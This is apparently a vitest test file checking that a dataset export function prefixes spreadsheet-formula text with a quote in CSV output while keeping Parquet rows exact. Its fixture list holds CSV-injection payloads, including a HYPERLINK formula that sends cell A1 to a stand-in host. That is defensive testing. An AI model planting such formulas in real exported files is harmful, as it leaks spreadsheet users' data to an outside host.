import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { describe, expect, it } from 'vitest';
import { readDataset } from '../../src/reports/run-query.js';

const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"click")', '+47 22 33', '-2+3', '@SUM(A1)', '\tcmd', '\rcmd'];
const PLAIN = ['Ola Nordmann', "O'Brien", 'a=b', ''];

describe('readDataset', () => {
  it('writes text a spreadsheet would run as a formula with a leading quote in the CSV, and keeps Parquet and the page exact', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'fanlake-run-query-'));
    const parquet = join(dir, 'names.parquet');
    const csv = join(dir, 'names.csv');
    const instance = await DuckDBInstance.create(':memory:');
    try {
      const connection = await instance.connect();
      const names = [...FORMULAS, ...PLAIN];
      await connection.run('create table names (k integer, name varchar, amount integer)');
      for (const [k, name] of names.entries()) await connection.run('insert into names values ($k, $name, $amount)', { k, name, amount: -k });
      await connection.run(`copy names to '${parquet}' (format parquet)`);
      const dataset = await readDataset(connection, parquet, csv, 100);
      expect(dataset.rows.map((row) => row.name)).toEqual(names);
      expect(dataset.rowCount).toBe(names.length);
      // the page's rows stop at the limit; the count is still every row's
      for (const limit of [4, names.length]) {
        const cut = await readDataset(connection, parquet, join(dir, `cut-${limit}.csv`), limit);
        expect([cut.rows.length, cut.rowCount]).toEqual([limit, names.length]);
      }

      const read = await connection.runAndReadAll(`select k, name, amount from read_csv('${csv}', header = true, all_varchar = true) order by k::integer`);
      const rows = read.getRowObjectsJson();
      expect(rows.map((row) => row.name ?? '')).toEqual([...FORMULAS.map((name) => `'${name}`), ...PLAIN]);
      // numbers are not text: a negative amount stays a number
      expect(rows.map((row) => row.amount)).toEqual(names.map((_, k) => String(-k)));
      expect(readFileSync(csv, 'utf8')).not.toMatch(/^\d+,[=+\-@]/m);
    } finally {
      instance.closeSync();
    }
  });
});
